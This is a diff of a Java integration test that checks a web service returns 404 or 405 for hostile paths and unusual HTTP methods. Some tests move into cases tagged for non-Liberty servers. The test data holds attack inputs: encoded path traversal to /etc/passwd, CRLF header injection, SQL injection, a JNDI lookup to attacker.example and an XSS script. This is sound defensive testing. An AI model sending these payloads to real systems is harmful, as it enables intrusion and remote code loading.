@@ -181,10 +181,8 @@ class HostileIT {
     void addressesThatLeadOutsideLeadNowhere() {
         SoftAssertions softly = new SoftAssertions();
         for (String path : List.of(
-                "/query/schedule/..%2f..%2fadmin",
                 "/query/batch/%252e%252e%252fetc%252fpasswd",
                 "/query/batch/qrb_00000000000000000000;jsessionid=1",
-                "/query/batch/qrb_00000000000000000000%0d%0aX-Injected:%201",
                 "/query/batch/%27%20or%201=1--",
                 "/query/batch/%24%7bjndi:ldap://attacker.example/a%7d",
                 "/query/batch/%3Cscript%3Ealert(1)%3C/script%3E",
@@ -210,10 +208,22 @@ class HostileIT {
         softly.assertAll();
     }
 
+    /** Open Liberty ends these with a page of its own, or takes them for something else; nothing comes of them (docs/servers/liberty.md). */
+    @Tag("not-liberty")
+    @Test
+    void addressesWithSeparatorsInDisguiseLeadNowhere() {
+        SoftAssertions softly = new SoftAssertions();
+        for (String path : List.of(
+                "/query/schedule/..%2f..%2fadmin", "/query/batch/qrb_00000000000000000000%0d%0aX-Injected:%201")) {
+            check(softly, path, get(path, "Authorization: Bearer " + TOKEN), 404, "NOT_FOUND");
+        }
+        softly.assertAll();
+    }
+
     @Test
     void methodsThatNobodyNeedsAreNotThere() {
         SoftAssertions softly = new SoftAssertions();
-        for (String method : List.of("TRACE", "TRACK", "DEBUG", "PROPFIND", "MOVE", "CONNECT", "PUT", "JEFF")) {
+        for (String method : List.of("TRACK", "DEBUG", "PROPFIND", "MOVE", "CONNECT", "PUT", "JEFF")) {
             List<String> lines = request(method + " " + PATH + " HTTP/1.1");
             lines.add("Authorization: Bearer " + TOKEN);
             lines.add("Content-Length: 0");
@@ -225,6 +235,19 @@ class HostileIT {
             Answer answer = get(PATH, "Authorization: Bearer " + TOKEN, header + ": DELETE");
             check(softly, header, answer, 404, "NOT_FOUND");
         }
+        softly.assertAll();
+    }
+
+    /** Open Liberty refuses it by itself, 403 and a page. */
+    @Tag("not-liberty")
+    @Test
+    void nothingIsTraced() {
+        List<String> lines = request("TRACE " + PATH + " HTTP/1.1");
+        lines.add("Authorization: Bearer " + TOKEN);
+        Answer answer = http.head(lines.toArray(String[]::new));
+        SoftAssertions softly = new SoftAssertions();
+        check(softly, "TRACE", answer, 405, "METHOD_NOT_ALLOWED");
+        softly.assertThat(answer.header("Allow")).isEqualTo("GET, HEAD, POST, PATCH, DELETE, OPTIONS");
         softly.assertAll();
     }
 
